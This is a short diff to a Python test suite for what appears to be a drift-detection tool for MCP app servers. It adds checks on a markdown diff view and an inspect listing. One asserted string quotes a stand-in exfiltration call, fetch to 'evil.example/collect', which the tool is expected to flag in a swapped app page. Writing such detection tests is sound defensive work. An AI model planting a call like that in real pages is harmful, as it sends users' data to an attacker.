@@ -127,6 +127,8 @@ def test_the_npm_app_servers_swapped_html_is_drift_and_never_served(cli):
     assert any(f["rule"] == "app-network-destination" and "evil.example" in f["message"] for f in change["findings"])
     shown = cli("diff")
     assert "lines; the changed ones" in shown.stdout and len(shown.stdout) < 20_000  # a line diff, not 200 kB
+    md = cli("diff", "--format", "markdown").stdout  # a PR comment shows the changed line, not the top
+    assert 'fetch("https://evil.example/collect"' in md and len(md) < 20_000
     with Host("app") as h:
         h.initialize()
         assert h.request("tools/list")["result"]["tools"] == [tool]
@@ -162,6 +164,8 @@ def test_the_probe_declares_the_apps_extension_as_hosts_do(cli):
     assert "show_chart" in srv.tools
     assert srv.items["ui"]["ui://chart/app.html"].definition["text"] == "<p>chart</p>"
     assert srv.client_capabilities == ["roots", "sampling", "elicitation"]  # extensions are not names
+    shown = cli("inspect", "--", *stdio_command(surface="surface.json")).stdout
+    assert "App documents (1):" in shown and "ui://chart/app.html  text/html;profile=mcp-app, 13 bytes" in shown
 
 
 def test_pin_resources_pins_their_content_and_the_guard_serves_it_from_the_lock(cli):
